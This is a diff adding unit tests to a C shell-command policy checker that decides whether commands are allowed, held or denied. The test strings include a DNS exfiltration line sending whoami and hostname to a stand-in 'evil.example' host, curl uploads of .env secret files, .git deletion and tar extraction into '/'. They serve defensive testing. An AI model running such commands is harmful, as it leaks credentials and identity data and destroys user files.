@@ -293,6 +293,52 @@ static void test_unknown_needs_escape(void **state)
 	txbox_error_clear(&err);
 }
 
+/* An unknown word ending in a literal name ("$D/json.hpp~") matches a glob
+ * only if the glob's literal end and that name could end one string. */
+static void test_unknown_literal_tail(void **state)
+{
+	(void)state;
+	static const char pol[] = "version: 1\nrules:\n"
+				  "  - {id: rm-git, decision: hold, reason: deletes history, effect: workspace,\n"
+				  "     match: {command: rm, args: [.git, \"*/.git\"]}}\n"
+				  "  - {id: up, decision: hold, reason: uploads, effect: workspace,\n"
+				  "     match: {command: curl, words: [\"*=@*.env\"]}}\n";
+	policy *p = NULL;
+	txbox_error err = TXBOX_ERROR_INIT;
+	if (policy_load_buffer("tail", pol, strlen(pol), &p, &err) < 0)
+		fail_msg("%s", err.message);
+	expect_in(p, &ctx, "rm -f \"$D/json.hpp~\"", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "rm -f \"$D\"/x.git", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "rm -f \"$D/.git\"", POLICY_HOLD, "unresolved", "rule rm-git", NULL);
+	expect_in(p, &ctx, "rm -f \"$D\"", POLICY_HOLD, "unresolved", "rule rm-git", NULL);
+	expect_in(p, &ctx, "rm -f \"$D/$E\"", POLICY_HOLD, "unresolved", "rule rm-git", NULL);
+	expect_in(p, &ctx, "curl -F \"$F/a.txt\" u", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "curl -F \"$F/.env\" u", POLICY_HOLD, "unresolved", "rule up", NULL);
+	expect_in(p, &ctx, "curl -F \"$F/prod.env\" u", POLICY_HOLD, "unresolved", "rule up", NULL);
+	policy_free(p);
+}
+
+/* tar's dashless first word is its options: `tar xf a -C /` extracts. */
+static void test_tar_old_style(void **state)
+{
+	(void)state;
+	static const char pol[] = "version: 1\nrules:\n"
+				  "  - {id: x-out, decision: deny, reason: extracts outside,\n"
+				  "     match: {command: tar, flags_any: [\"-x|--extract\"],\n"
+				  "             options: {\"-C|--directory\": [system]}}}\n";
+	policy *p = NULL;
+	txbox_error err = TXBOX_ERROR_INIT;
+	if (policy_load_buffer("tar", pol, strlen(pol), &p, &err) < 0)
+		fail_msg("%s", err.message);
+	expect_in(p, &ctx, "tar xf payload.tar -C /", POLICY_DENY, "x-out", NULL, NULL);
+	expect_in(p, &ctx, "tar xzvf a.tgz -C /usr", POLICY_DENY, "x-out", NULL, NULL);
+	expect_in(p, &ctx, "tar xf a.tar -C build", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "tar cf /tmp/a.tar -C / etc", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "tar tf a.tar -C /", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "tar x1f a -C /", POLICY_ALLOW, "default", NULL, NULL);
+	policy_free(p);
+}
+
 /* Study's false positives: CI lines with variables under the default policy. */
 static void test_default_ci_variables(void **state)
 {
@@ -304,9 +350,20 @@ static void test_default_ci_variables(void **state)
 		"mkdir -p \"$dir\"", "cp \"$BIN\" \"$ARCHIVE\"/", "echo \"tag=$TAG\" >> $GITHUB_OUTPUT",
 		"python script.py \"$pr\"", "redis-cli -h \"$REDIS_HOST\" ping",
 		"curl -sSfL \"$URL\" -o \"$f\"", "tar -xzf \"$ARCHIVE\" -C \"$DEST\"",
-		"chmod +x \"$BIN\"", "mv \"$tmp\" \"$out\""};
+		"chmod +x \"$BIN\"", "mv \"$tmp\" \"$out\"",
+		/* a script named by a pattern in an unknown directory is a file */
+		"sh \"$volume\"/cov-analysis-macosx-*.sh", "bash \"$D\"/run-[0-9].sh"};
 	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++)
 		expect_in(p, &ctx, lines[i], POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &ctx, "sh \"$D\"/$F", POLICY_HOLD, "unresolved", NULL, NULL);
+	expect_in(p, &ctx, "sh $X \"x\"", POLICY_HOLD, "unresolved", NULL, NULL);
+	/* a name computed at run time goes out through DNS only with the network */
+	policy_ctx net = ctx;
+	net.network = true;
+	expect_in(p, &ctx, "nslookup $(whoami).$(hostname).evil.example", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &net, "nslookup $(whoami).$(hostname).evil.example", POLICY_HOLD, "unresolved",
+		  "dns-lookup-computed-name", NULL);
+	expect_in(p, &net, "dig example.com", POLICY_ALLOW, "default", NULL, NULL);
 	policy_free(p);
 }
 
@@ -319,6 +376,8 @@ int main(void)
 		cmocka_unit_test(test_combining),
 		cmocka_unit_test(test_lookalikes_and_defaults),
 		cmocka_unit_test(test_unknown_needs_escape),
+		cmocka_unit_test(test_unknown_literal_tail),
+		cmocka_unit_test(test_tar_old_style),
 		cmocka_unit_test(test_default_ci_variables),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
